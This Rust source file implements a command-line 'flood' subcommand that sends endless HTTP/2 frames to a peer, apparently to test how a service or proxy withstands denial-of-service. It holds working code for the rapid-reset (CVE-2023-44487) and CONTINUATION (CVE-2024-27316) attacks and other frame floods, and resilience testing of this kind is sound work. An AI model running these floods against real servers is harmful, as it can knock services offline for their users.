// SPDX-License-Identifier: Apache-2.0
//! Frames without end, by a peer whose certificate is in order.

use std::time::{Duration, Instant};

use anyhow::Result;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncWrite, AsyncWriteExt as _};

use super::http2::{END_HEADERS, Heard, PREFACE, block, frame, kind, setting};
use super::shake::{self, Caller};

#[derive(Debug, Clone, clap::Args)]
pub struct Flood {
    #[command(flatten)]
    pub caller: Caller,
    /// Which frames
    #[arg(long, value_enum)]
    pub kind: FloodKind,
    /// Whom requests ask for: the pod's application
    #[arg(long)]
    pub authority: String,
    /// For how long, unless the other end ends it
    #[arg(long, default_value_t = 5)]
    pub seconds: u64,
    /// Take nothing that comes back
    #[arg(long)]
    pub deaf: bool,
}

/// Each is cheap to send and costs the other end something.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum FloodKind {
    /// SETTINGS, each to be acknowledged
    Settings,
    /// PING, each to be answered
    Ping,
    /// Streams that are opened and reset at once (CVE-2023-44487)
    Reset,
    /// One field block that never ends (CVE-2024-27316)
    Continuation,
    /// DATA without data
    EmptyData,
    Priority,
    /// Credit, a byte at a time
    WindowUpdate,
    /// Streams whose answers are never given a window
    ZeroWindow,
    /// Frames of no known kind
    Unknown,
    /// What no client may send
    PushPromise,
}

/// What became of it.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Flooded {
    /// Bytes that the other end took.
    pub sent: u64,
    /// What was heard meanwhile; nothing by the deaf until they end.
    pub heard: Heard,
    /// The other end ended it, after so long.
    pub ended_after: Option<Duration>,
}

/// Written at once, about.
const BATCH: usize = 16 << 10;
/// After the last byte the reason may still be on its way.
const LAST_WORDS: Duration = Duration::from_secs(2);

const INITIAL_WINDOW_SIZE: u16 = 4;

pub async fn run(flood: &Flood) -> Result<Flooded> {
    let tunnel = shake::tunnel(&flood.caller).await?;
    let (mut reader, mut writer) = tokio::io::split(tunnel);
    let started = Instant::now();
    let mut heard = Heard::default();
    let mut sent = 0;
    let over = {
        let writing = write(flood, &mut writer, &mut sent);
        let hearing = async {
            match flood.deaf {
                true => std::future::pending().await,
                false => heard.hear_out(&mut reader).await,
            }
        };
        let deadline = tokio::time::sleep(Duration::from_secs(flood.seconds));
        tokio::select! {
            () = writing => Some(started.elapsed()),
            () = hearing => Some(started.elapsed()),
            () = deadline => None,
        }
    };
    if over.is_some() {
        let last = heard.hear_out(&mut reader);
        let _said_all = tokio::time::timeout(LAST_WORDS, last).await;
    }
    Ok(Flooded {
        sent,
        heard,
        ended_after: over,
    })
}

/// Returns once the other end takes no more.
async fn write(flood: &Flood, writer: &mut (impl AsyncWrite + Unpin), sent: &mut u64) {
    let mut frames = Frames::new(flood.kind, &flood.authority);
    let mut batch = frames.opening();
    loop {
        if writer.write_all(&batch).await.is_err() || writer.flush().await.is_err() {
            return;
        }
        *sent += batch.len() as u64;
        batch.clear();
        while batch.len() < BATCH {
            match frames.next() {
                Some(frame) => batch.extend(frame),
                // All is said, and nothing is let go of.
                None => std::future::pending().await,
            }
        }
    }
}

struct Frames {
    kind: FloodKind,
    request: Vec<u8>,
    stream: u32,
}

impl Frames {
    fn new(kind: FloodKind, authority: &str) -> Self {
        Self {
            kind,
            request: block([(":method", "CONNECT"), (":authority", authority)]),
            stream: 1,
        }
    }

    fn opening(&self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        bytes.extend(match self.kind {
            FloodKind::ZeroWindow => setting(INITIAL_WINDOW_SIZE, 0),
            _ => frame(kind::SETTINGS, 0, 0, &[]),
        });
        match self.kind {
            FloodKind::EmptyData => bytes.extend(self.connect(1)),
            FloodKind::Continuation => bytes.extend(frame(kind::HEADERS, 0, 1, &self.request)),
            _ => {}
        }
        bytes
    }

    fn connect(&self, stream: u32) -> Vec<u8> {
        frame(kind::HEADERS, END_HEADERS, stream, &self.request)
    }

    /// The next frame, or a few that belong together.
    fn next(&mut self) -> Option<Vec<u8>> {
        let stream = self.stream;
        Some(match self.kind {
            FloodKind::Settings => frame(kind::SETTINGS, 0, 0, &[]),
            FloodKind::Ping => frame(kind::PING, 0, 0, b"tick-toc"),
            FloodKind::Reset => {
                self.stream += 2;
                let mut bytes = self.connect(stream);
                bytes.extend(frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                bytes
            }
            FloodKind::Continuation => {
                frame(kind::CONTINUATION, 0, 1, &block([("x-more", "and more")]))
            }
            FloodKind::EmptyData => frame(kind::DATA, 0, 1, &[]),
            FloodKind::Priority => frame(kind::PRIORITY, 0, 3, &[0, 0, 0, 1, 16]),
            FloodKind::WindowUpdate => frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            FloodKind::ZeroWindow => {
                // As many streams as one may have by default, each with what its first window holds.
                if stream > 2 * 100 {
                    return None;
                }
                self.stream += 2;
                let mut bytes = self.connect(stream);
                for _ in 0..4 {
                    bytes.extend(frame(kind::DATA, 0, stream, &[b'x'; 16_000]));
                }
                bytes
            }
            FloodKind::Unknown => frame(0xfa, 0, 0, b"whatever"),
            FloodKind::PushPromise => frame(kind::PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2]),
        })
    }
}
